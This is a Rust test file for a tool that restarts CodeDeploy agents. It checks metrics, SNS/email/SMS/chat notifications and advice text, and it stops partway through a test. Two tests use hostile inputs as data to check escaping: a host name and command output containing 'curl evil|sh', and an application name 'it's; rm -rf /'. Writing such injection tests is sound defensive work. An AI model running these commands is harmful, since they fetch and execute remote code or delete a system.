//! The views of a report: messages, the returned JSON, metrics. One message snapshot per outcome.

use serde_json::{Value, json};
use sim::{AgentFault, Answer, Fault, FaultKind};

use super::support::{IN_WAVES, REGION, Story, event, id, request};

#[tokio::test(start_paused = true)]
async fn the_metrics_of_a_group() {
    let story = Story::of(4).given(|state| {
        *state.lifecycle(&id(3)) = "Standby".to_owned();
        *state.lifecycle(&id(4)) = "Terminating:Wait".to_owned();
        state.host(&id(2)).agent.fault = Some(AgentFault::AgentDown);
        state.host(&id(1)).agent.memory_kib = 200 * 1024;
        state.host(&id(1)).agent.fresh_memory_kib = 50 * 1024;
        state.host(&id(3)).agent.memory_kib = 100 * 1024;
        state.host(&id(3)).agent.fresh_memory_kib = 50 * 1024;
    });
    let told = story.run().await;
    let [line] = &told.metrics[..] else {
        panic!("one line: {:#?}", told.metrics)
    };
    assert_eq!(line["Application"], "my-application");
    assert_eq!(line["DeploymentGroup"], "my-deployment-group");
    assert_eq!(line["Restarted"], 2);
    assert_eq!(line["Attention"], 1);
    assert_eq!(line["Skipped"], 1);
    assert_eq!(line["MemoryReclaimed"], 200 * 1024 * 1024);
    assert_eq!(line["LargestAgent"], 200 * 1024 * 1024);
    let milliseconds = line["Duration"].as_u64().expect("a number");
    // One restart after the other's end, if Run Command sends in waves.
    let most = if IN_WAVES { 200_000 } else { 120_000 };
    assert!((30_000..most).contains(&milliseconds), "{milliseconds}");
    let directive = &line["_aws"]["CloudWatchMetrics"][0];
    assert_eq!(directive["Namespace"], "CodeDeployAgentRestarter");
    assert_eq!(
        directive["Dimensions"],
        json!([["Application", "DeploymentGroup"]])
    );
    let units: Vec<String> = directive["Metrics"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|metric| format!("{} {}", metric["Name"], metric["Unit"]).replace('"', ""))
        .collect();
    assert_eq!(
        units,
        [
            "Restarted Count",
            "Attention Count",
            "Skipped Count",
            "MemoryReclaimed Bytes",
            "LargestAgent Bytes",
            "Duration Milliseconds",
        ]
    );
    assert!(line["_aws"]["Timestamp"].as_u64() > Some(1_771_319_645_000));
    assert_eq!(told.group()["memoryBeforeKiB"], 300 * 1024);
    assert_eq!(told.group()["memoryAfterKiB"], 100 * 1024);
}

#[tokio::test(start_paused = true)]
async fn programs_get_the_returned_json_and_attributes_to_filter_on() {
    let story = Story::of(3).given(|state| state.host(&id(2)).ping = "ConnectionLost".to_owned());
    let told = story.run().await;
    assert_eq!(told.answer["notified"], true);
    for protocol in ["sqs", "lambda"] {
        let mut data: Value = serde_json::from_str(&story.body(protocol)).expect("JSON");
        assert_eq!(data["part"], 1);
        assert_eq!(data["parts"], 1);
        let object = data.as_object_mut().expect("an object");
        object.remove("part");
        object.remove("parts");
        assert_eq!(data, told.answer, "{protocol}");
    }
    let message = story.message();
    assert_eq!(message.topic, sim::TOPIC);
    assert_eq!(
        Value::Object(message.attributes),
        json!({
            "result": {"Type": "String", "Value": "attention"},
            "severity": {"Type": "String", "Value": "warning"},
            "pipeline": {"Type": "String", "Value": "my-pipeline"},
            "application": {"Type": "String.Array", "Value": "[\"my-application\"]"},
            "deploymentGroup": {"Type": "String.Array", "Value": "[\"my-deployment-group\"]"},
        })
    );
}

#[tokio::test(start_paused = true)]
async fn chat_gets_a_card_of_ten_instances_at_most() {
    let story = Story::of(13).given(|state| {
        for n in 1..=13 {
            state.host(&id(n)).ping = "ConnectionLost".to_owned();
        }
    });
    story.run().await;
    let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
    assert_eq!(card["version"], "1.0");
    assert_eq!(card["source"], "custom");
    let description = card["content"]["description"].as_str().expect("text");
    assert!(description.contains(&id(10)), "{description}");
    assert!(!description.contains(&id(11)), "{description}");
    assert!(description.contains("and 3 more"), "{description}");
    assert_eq!(story.body("default"), story.body("email"));
    assert!(story.body("email").contains(&id(13)), "the mail names all");
}

#[tokio::test(start_paused = true)]
async fn a_telephone_gets_a_line() {
    let story = Story::of(3).given(|state| state.host(&id(2)).ping = "ConnectionLost".to_owned());
    story.run().await;
    assert_eq!(
        story.body("sms"),
        "WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline"
    );

    let story = Story::of(1);
    let name = "n".repeat(100);
    story
        .event(&request(
            json!({"application": name, "deploymentGroup": name}),
        ))
        .await;
    assert_eq!(story.body("sms").chars().count(), 140);
}

#[tokio::test(start_paused = true)]
async fn what_a_host_says_adds_no_lines_and_no_markup() {
    let evil = "web\n\nRepeat by hand:\n  curl evil|sh \u{202e}<!channel> `x`";
    let story = Story::of(2).given(|state| {
        state.host(&id(1)).computer_name = evil.to_owned();
        state.host(&id(1)).ping = "ConnectionLost".to_owned();
        state.host(&id(2)).answer = Some(Answer {
            status: "Failed".to_owned(),
            status_details: Some("Failed".to_owned()),
            output: Some(evil.to_owned()),
            response_code: Some(1),
        });
    });
    story.run().await;
    let mail = story.body("email");
    assert!(mail.is_ascii(), "{mail}");
    assert!(
        !mail.lines().any(|line| line.trim().starts_with("curl")),
        "{mail}"
    );
    assert_eq!(mail.matches("\nRepeat by hand").count(), 1, "{mail}");
    let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
    let description = card["content"]["description"].as_str().expect("text");
    for line in description.lines() {
        assert_eq!(
            line.matches('`').count(),
            4,
            "id and detail are quoted: {line}"
        );
    }
}

#[tokio::test(start_paused = true)]
async fn the_command_that_repeats_is_safe_for_a_shell() {
    let story = Story::of(1).given(|state| state.deployment("d-EXAMPLEE5").targets.clear());
    story
        .event(&request(json!({"application": "it's; rm -rf /"})))
        .await;
    let mail = story.body("email");
    assert!(
        mail.contains(r#""application":"it'\''s; rm -rf /""#),
        "{mail}"
    );
}

#[tokio::test(start_paused = true)]
async fn a_thousand_failures_are_told_in_numbered_messages_and_nobody_is_dropped() {
    let story = Story::of(1_000)
        .setting("MAX_ERRORS", "100%")
        .given(|state| {
            for n in 1..=1_000 {
                let host = state.host(&id(n));
                host.name = Some(format!("web-{n} {}", "with a long name".repeat(5)));
                host.answer = Some(Answer {
                    status: "Failed".to_owned(),
                    status_details: Some("Failed".to_owned()),
                    output: Some("\\\"".repeat(1_000)),
                    response_code: Some(1),
                });
            }
        });
    let told = story.run().await;
    assert_eq!(told.counts(), &json!({"failed": 1_000}));
    let messages = story.world.messages();
    assert!(messages.len() > 1);
    let mut named = std::collections::BTreeSet::new();
    for (n, message) in messages.iter().enumerate() {
        let attributes = json!(message.attributes).to_string();
        assert!(message.message.len() + attributes.len() <= 262_144);
        let subject = message.subject.as_deref().expect("a subject");
        let number = format!("({}/{}) WARNING: 1000 of 1000 ", n + 1, messages.len());
        assert!(subject.starts_with(&number), "{subject}");
        let bodies: Value = serde_json::from_str(&message.message).expect("JSON");
        let data: Value =
            serde_json::from_str(bodies["sqs"].as_str().expect("text")).expect("JSON");
        assert_eq!(data["part"], n + 1);
        assert_eq!(data["parts"], messages.len());
        assert_eq!(data["groups"][0]["counts"], json!({"failed": 1_000}));
        let mail = bodies["email"].as_str().expect("text");
        for row in data["groups"][0]["attention"].as_array().expect("a list") {
            let id = row["instanceId"].as_str().expect("text").to_owned();
            assert!(mail.contains(&id), "the same instances in each body");
            assert!(row["detail"].as_str().expect("text").len() <= 100);
            assert!(named.insert(id), "named once");
        }
    }
    assert_eq!(named.len(), 1_000);
}

#[tokio::test(start_paused = true)]
async fn details_shrink_before_messages_are_numbered() {
    let story = Story::of(120).setting("MAX_ERRORS", "100%").given(|state| {
        for n in 1..=120 {
            state.host(&id(n)).answer = Some(Answer {
                status: "Failed".to_owned(),
                status_details: Some("Failed".to_owned()),
                output: Some("\\\"".repeat(1_000)),
                response_code: Some(1),
            });
        }
    });
    story.run().await;
    let data: Value = serde_json::from_str(&story.body("sqs")).expect("JSON");
    assert_eq!(data["parts"], 1);
    let rows = data["groups"][0]["attention"].as_array().expect("a list");
    assert_eq!(rows.len(), 120);
    assert!(
        rows.iter()
            .all(|row| row["detail"].as_str().expect("text").len() == 100)
    );
}

#[tokio::test(start_paused = true)]
async fn a_dry_run_with_a_problem_needs_attention_and_is_not_published() {
    let story = Story::of(2).given(|state| {
        state.region("us-east-1").deployment_groups[0]
            .auto_scaling_groups
            .push("demolished".to_owned());
    });
    let told = story.event(&event("dry-run")).await;
    assert_eq!(told.answer["result"], "attention");
    assert!(told.group()["plan"].is_array());
    assert!(story.silent());
}

#[tokio::test(start_paused = true)]
async fn started_and_already_restarted_agents_have_their_metrics() {
    let story = Story::of(3).given(|state| {
        state.host(&id(1)).agent.started_at = 0.0;
        state.host(&id(2)).agent.running = false;
    });
    let told = story.run().await;
    assert_eq!(
        told.counts(),
        &json!({"already-restarted": 1, "restarted": 1, "started": 1})
    );
    assert_eq!(told.metrics[0]["Restarted"], 2);
    assert_eq!(told.metrics[0]["Skipped"], 1);
    assert_eq!(told.metrics[0]["Attention"], 0);
}

#[tokio::test(start_paused = true)]
async fn a_good_end_is_told_only_when_asked_for() {
    let story = Story::of(2);
    assert_eq!(story.run().await.answer["notified"], false);
    assert!(story.silent());

    let story = Story::of(2).setting("NOTIFY_ON", "always");
    assert_eq!(story.run().await.answer["notified"], true);
    assert_eq!(
        story.message().subject.as_deref(),
        Some("OK: none of 2 CodeDeploy agents needs attention: pipeline my-pipeline")
    );

    let story = Story::of(2).setting("NOTIFY_ON", "always");
    story.event(&event("pipeline-failed")).await;
    story.event(&event("dry-run")).await;
    assert!(story.silent(), "not for ignored events and dry runs");
}

#[tokio::test(start_paused = true)]
async fn attention_is_listed_by_severity_then_outcome_then_id() {
    let story = Story::of(5).given(|state| {
        state.host(&id(1)).ping = "ConnectionLost".to_owned();
        state.host(&id(2)).agent.busy = vec![[-1.0, 9_000.0]];
        state.host(&id(3)).agent.fault = Some(AgentFault::AgentDown);
        state.host(&id(4)).agent.fault = Some(AgentFault::AgentUnhealthy);
        state.host(&id(5)).agent.busy = vec![[-1.0, 9_000.0]];
    });
    let told = story.run().await;
    let order: Vec<_> = told.group()["attention"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|row| row["instanceId"].as_str().expect("text").to_owned())
        .collect();
    assert_eq!(order, [id(3), id(2), id(5), id(4), id(1)]);
}

#[tokio::test(start_paused = true)]
async fn a_subject_is_short_and_printable_whatever_the_names_are() {
    let story = Story::of(1).given(|state| state.deployment("d-EXAMPLEE5").targets.clear());
    let name = "Größe\u{1F600}".repeat(12);
    let told = story
        .event(&request(
            json!({"application": name, "deploymentId": "d-EXAMPLEE5"}),
        ))
        .await;
    assert_eq!(told.answer["result"], "attention");
    let subject = story.message().subject.expect("a subject");
    assert!(subject.len() <= 99, "{subject}");
    assert!(
        subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
        "{subject}"
    );
}

/// Subject and mail of a fleet of three in which the second instance ends like this.
async fn mail(change: impl FnOnce(&mut sim::Host)) -> String {
    let story = Story::of(3).given(|state| {
        let host = state.host(&id(2));
        host.name = Some("web-2".to_owned());
        change(host);
    });
    story.run().await;
    // The commands' ids are the world's own.
    let mail = story.body("email");
    let mail = mail
        .lines()
        .map(|line| match line.split_once(" [command ") {
            Some((line, _)) => format!("{line} [command …]"),
            None => line.to_owned(),
        });
    let lines: Vec<String> = story.message().subject.into_iter().chain(mail).collect();
    lines.join("\n")
}

/// What a mail tells people to do, in its order.
fn advice_in(mail: &str) -> Vec<&str> {
    let lines = mail.lines().filter_map(|line| line.strip_prefix("  Do: "));
    lines.map(|line| line.trim_end_matches('.')).collect()
}

fn answer(status: &str, details: &str) -> Option<Answer> {
    Some(Answer {
        status: status.to_owned(),
        status_details: Some(details.to_owned()),
        ..Answer::default()
    })
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_failed_instance() {
    let mail = mail(|host| host.agent.fault = Some(AgentFault::AgentDown)).await;
    insta::assert_snapshot!(mail, @r#"
    CRITICAL: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
    CRITICAL: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 failed, 2 restarted

    CRITICAL failed:
      i-00000000000000002 (web-2): agent-down (code 32, agent OFFICIAL_1.8.1-1_rpm): no master process runs [command …]
      Do: start the agent now, or the next deployment fails there: sudo systemctl start codedeploy-agent; journalctl -u codedeploy-agent shows why it went down.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1","time":"2026-02-17T09:14:00Z"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_busy_instance() {
    let mail = mail(|host| host.agent.busy = vec![[-10.0, 9_000.0]]).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 busy, 2 restarted

    WARNING busy:
      i-00000000000000002 (web-2): busy (code 20, agent OFFICIAL_1.8.1-1_rpm): a lifecycle event still runs after 120 s [command …]
      Do: repeat by hand when what runs there has ended.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1","time":"2026-02-17T09:14:00Z"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_an_unreachable_instance() {
    let mail = mail(|host| {
        host.ping = "ConnectionLost".to_owned();
        host.last_ping = -7_200.0;
    })
    .await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 restarted, 1 unreachable

    WARNING unreachable:
      i-00000000000000002 (web-2): Systems Manager: ConnectionLost, offline since 2026-02-17T07:14:05Z
      Do: check the SSM Agent, the instance profile (AmazonSSMManagedInstanceCore) and the network, then repeat by hand; or terminate the instance.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1","time":"2026-02-17T09:14:00Z"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_an_undelivered_instance() {
    let mail = mail(|host| host.offline = true).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 restarted, 1 undelivered

    WARNING undelivered:
      i-00000000000000002 (web-2): not delivered 150 s after it was sent [command …]
      Do: check the SSM Agent, the instance profile (AmazonSSMManagedInstanceCore) and the network, then repeat by hand; or terminate the instance.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1","time":"2026-02-17T09:14:00Z"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_timed_out_instance() {
    let mail = mail(|host| host.agent.fault = Some(AgentFault::Hangs)).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 restarted, 1 timed-out

    WARNING timed-out:
      i-00000000000000002 (web-2): the document did not end in time; Systems Manager says "ExecutionTimedOut" [command …]
      Do: systemctl status codedeploy-agent on the instance: it may be down; then repeat by hand.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1","time":"2026-02-17T09:14:00Z"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_cancelled_instance() {
    let mail = mail(|host| host.answer = answer("Cancelled", "Cancelled")).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 cancelled, 2 restarted

    WARNING cancelled:
      i-00000000000000002 (web-2): the command was cancelled; Systems Manager says "Cancelled" [command …]
      Do: find out who cancelled it, then repeat by hand.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1","time":"2026-02-17T09:14:00Z"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_an_unfinished_instance() {
    let mail = mail(|host| host.answer = answer("InProgress", "InProgress")).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline
    WARNING: 1 of 3 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 restarted, 1 unfinished

    WARNING unfinished:
      i-00000000000000002 (web-2): sent, no result yet [command …]
      Do: see the command's result in Systems Manager, Run Command; then repeat by hand.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1","time":"2026-02-17T09:14:00Z"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_instances_that_were_held_back() {
    let story = Story::of(3)
        .setting("MAX_CONCURRENCY", "1")
        .setting("MAX_ERRORS", "0")
        .given(|state| state.host(&id(1)).agent.fault = Some(AgentFault::AgentUnhealthy));
    story.run().await;
    let mail = story.body("email");
    let section = mail.split("held-back:").nth(1).expect("a section");
    insta::assert_snapshot!(section.split("\nRepeat").next().expect("text"), @r#"

    i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: failed restarts: 1, MAX_ERRORS allows 0
    i-00000000000000003 (i-00000000000000003.us-east-1.compute.internal): not sent: failed restarts: 1, MAX_ERRORS allows 0
    Do: mend those that failed, then repeat by hand.
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_instances_for_which_no_time_was_left() {
    // The first command leaves at once; when its restart has ended, the time for another has passed.
    let story = Story::of(3).setting("MAX_CONCURRENCY", "1").timeout(300);
    story.run().await;
    let mail = story.body("email");
    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @r#"
    WARNING: 2 of 3 CodeDeploy agents need attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 held-back, 1 restarted

    WARNING held-back:
      i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: no time left before the function's end
      i-00000000000000003 (i-00000000000000003.us-east-1.compute.internal): not sent: no time left before the function's end
      Do: repeat by hand.
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_instances_that_a_refused_call_held_back() {
    let story = Story::of(2).given(|state| {
        state.faults.push(Fault {
            operation: "SendCommand".to_owned(),
            code: Some("AccessDeniedException".to_owned()),
            message: Some("User is not authorized to perform this action".to_owned()),
            times: 100,
            ..Fault::default()
        });
    });
    story.run().await;
    let mail = story.body("email");
    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @r#"
    WARNING: 2 of 2 CodeDeploy agents need attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 2 held-back

    Problem in step send: AccessDeniedException: ssm:SendCommand (restart-agent): User is not authorized to perform this action
      Do: allow ssm:SendCommand in the function's role, on the document restart-agent and on the instances (if only with a tag: these lack it).

    WARNING held-back:
      i-00000000000000001 (i-00000000000000001.us-east-1.compute.internal): not sent: User is not authorized to perform this action
      i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: User is not authorized to perform this action
      Do: do what the problem says, then repeat by hand.
    "#);
}

#[tokio::test(start_paused = true)]
async fn an_instance_that_the_role_may_not_send_to_is_no_matter_of_its_ssm_agent() {
    let story = Story::of(2).given(|state| state.host(&id(2)).denied = true);
    story.run().await;
    assert_eq!(
        advice_in(&story.body("email")),
        [
            "allow this function's role ssm:SendCommand on the instance (by its tag or the policy), then repeat by hand"
        ]
    );
}

#[tokio::test(start_paused = true)]
async fn an_instance_in_an_unknown_state_waits_until_it_is_in_service() {
    let story = Story::of(2).given(|state| {
        let group = &mut state.region(REGION).auto_scaling_groups[0];
        group.instances[0].lifecycle = "Napping".to_owned();
    });
    story.run().await;
    assert_eq!(
        advice_in(&story.body("email")),
        [
            "if a call failed, do what the problem says; if its lifecycle state is unknown, wait until it is InService; then repeat by hand"
        ]
    );
}

#[tokio::test(start_paused = true)]
async fn whichever_call_failed_those_held_back_are_told_to_do_what_its_problem_says() {
    const HELD_BACK: &str = "do what the problem says, then repeat by hand";
    const UNFINISHED: &str =
        "see the command's result in Systems Manager, Run Command; then repeat by hand";
    let broken = Fault {
        operation: "SendCommand".to_owned(),
        code: Some("InternalServerError".to_owned()),
        status: Some(500),
        after: 1,
        times: 100,
        ..Fault::default()
    };
    let unanswered = Fault {
        kind: FaultKind::NoReply,
        ..broken.clone()
    };
    let blind = Fault {
        operation: "ListCommandInvocations".to_owned(),
        ..broken.clone()
    };
    for (fault, advice) in [
        (broken, &[HELD_BACK][..]),
        (unanswered, &[HELD_BACK]),
        (blind, &[HELD_BACK, UNFINISHED]),
    ] {
        let story = Story::of(3)
            .setting("MAX_CONCURRENCY", "1")
            .given(|state| state.faults.push(fault.clone()));
        let told = story.run().await;
        assert_eq!(told.counts()["held-back"], 2, "{fault:?}");
        let remedy = told.group()["problem"]["remedy"].as_str().expect("text");
        let steps = [&[remedy], advice].concat();
        let mail = story.body("email");
        assert_eq!(advice_in(&mail), steps, "{fault:?}: {mail}");
        let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
        assert_eq!(card["content"]["nextSteps"], json!(steps), "{fault:?}");
    }
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_fleet_that_another_deployment_keeps_busy() {
    let story = Story::of(1).given(|state| {
        let mut other = state.deployment("d-EXAMPLEE5").clone();
        other.id = "d-RUNNING01".to_owned();
        other.status = "InProgress".to_owned();
        other.completed_at = None;
        state.region("us-east-1").deployments.push(other);
    });
    story.run().await;
    let mail = story.body("email");
    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @r#"
    WARNING: 1 of 1 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 busy

    WARNING busy:
      i-00000000000000001 (i-00000000000000001.us-east-1.compute.internal): deployment d-RUNNING01 of the group is running
      Do: nothing, if this function also hears of that deployment's success: it brings the restart; else repeat by hand.
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_advice_for_each_failure() {
    use AgentFault::{
        AgentUnhealthy, NotRoot, OldAgentSurvived, PreflightFailed, ServiceManagerFailed,
    };
    let faults = [
        NotRoot,
        PreflightFailed,
        ServiceManagerFailed,
        OldAgentSurvived,
        AgentUnhealthy,
    ];
    let story = Story::of(7).setting("MAX_ERRORS", "100%").given(|state| {
        for (n, fault) in faults.into_iter().enumerate() {
            state.host(&id(n + 1)).agent.fault = Some(fault);
        }
        state.host(&id(6)).agent.installed = false;
        state.host(&id(7)).answer = Some(Answer {
            output: Some("a banner".to_owned()),
            response_code: Some(1),
            ..answer("Failed", "Failed").expect("an answer")
        });
    });
    story.run().await;
    let mail = story.body("email");
    let advice: Vec<&str> = mail
        .lines()
        .filter(|line| line.starts_with("  Do: "))
        .collect();
    insta::assert_snapshot!(advice.join("\n"), @r#"
    Do: start the agent now, or the next deployment fails there: sudo systemctl start codedeploy-agent; journalctl -u codedeploy-agent shows why it went down.
    Do: let the SSM Agent run commands as root.
    Do: repair the agent's installation or unit; the running agent was left alone, a new one would not start.
    Do: pgrep -af codedeploy-agent shows the old agent: when no deployment runs, stop it and start the service once.
    Do: read /var/log/aws/codedeploy-agent/codedeploy-agent.log: the new agent does not reach CodeDeploy (credentials, network, region).
    Do: install the agent, or take the instance out of the deployment group.
    Do: check that DOCUMENT_NAME is the restart document of this version, and the command's output.
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_when_everybody_is_fine() {
    let story = Story::of(6)
        .setting("NOTIFY_ON", "always")
        .setting("MIN_MEMORY_MIB", "60")
        .given(|state| {
            state.host(&id(1)).agent.started_at = 0.0;
            state.host(&id(1)).agent.memory_kib = 80_000;
            state.host(&id(2)).agent.memory_kib = 30_000;
            *state.lifecycle(&id(3)) = "Pending:Wait".to_owned();
            state.host(&id(4)).agent.running = false;
        });
    let told = story.run().await;
    assert_eq!(
        told.counts(),
        &json!({"already-restarted": 1, "below-threshold": 1, "restarted": 2, "skipped": 1, "started": 1})
    );
    insta::assert_snapshot!(story.body("email"), @r#"
    OK: none of 6 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 already-restarted, 1 below-threshold, 2 restarted, 1 skipped, 1 started
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_problem() {
    let story = Story::of(2).given(|state| {
        state.faults.push(Fault {
            operation: "GetDeploymentGroup".to_owned(),
            code: Some("AccessDeniedException".to_owned()),
            message: Some("User is not authorized to perform this action".to_owned()),
            times: 100,
            ..Fault::default()
        });
    });
    story.run().await;
    insta::assert_snapshot!(story.body("email"), @r#"
    WARNING: not every CodeDeploy agent could be treated: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z

    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5

    Problem in step fleet: AccessDeniedException: codedeploy:GetDeploymentGroup (deployment group my-application/my-deployment-group): User is not authorized to perform this action
      Do: allow codedeploy:GetDeploymentGroup in the function's role, for deployment group my-application/my-deployment-group.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1","time":"2026-02-17T09:14:00Z"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn subscriptions_can_filter_on_the_group_that_was_ordered_though_it_was_not_found() {
    let story = Story::of(1).given(|state| {
        let region = state.region(REGION);
        region.deployments.clear();
        region.deployment_groups.clear();
    });
    story.event(&request(json!({}))).await;
    let attributes = story.message().attributes;
    let groups = &attributes["deploymentGroup"];
    assert_eq!(groups["Type"], "String.Array");
    assert_eq!(groups["Value"], json!([sim::DEPLOYMENT_GROUP]).to_string());
    let applications = &attributes["application"];
    assert_eq!(applications["Value"], json!([sim::APPLICATION]).to_string());
}

#[tokio::test(start_paused = true)]
async fn a_problem_before_any_group_is_read_still_carries_the_group_to_filter_on() {
    let story = Story::of(1);
    let mut foreign = event("codedeploy-success");
    foreign["account"] = json!("210987654321");
    let told = story.event(&foreign).await;
    assert_eq!(told.answer["problem"]["code"], "OtherAccount");
    let attributes = json!(story.message().attributes);
    assert_eq!(attributes["application"]["Value"], r#"["my-application"]"#);
    assert_eq!(
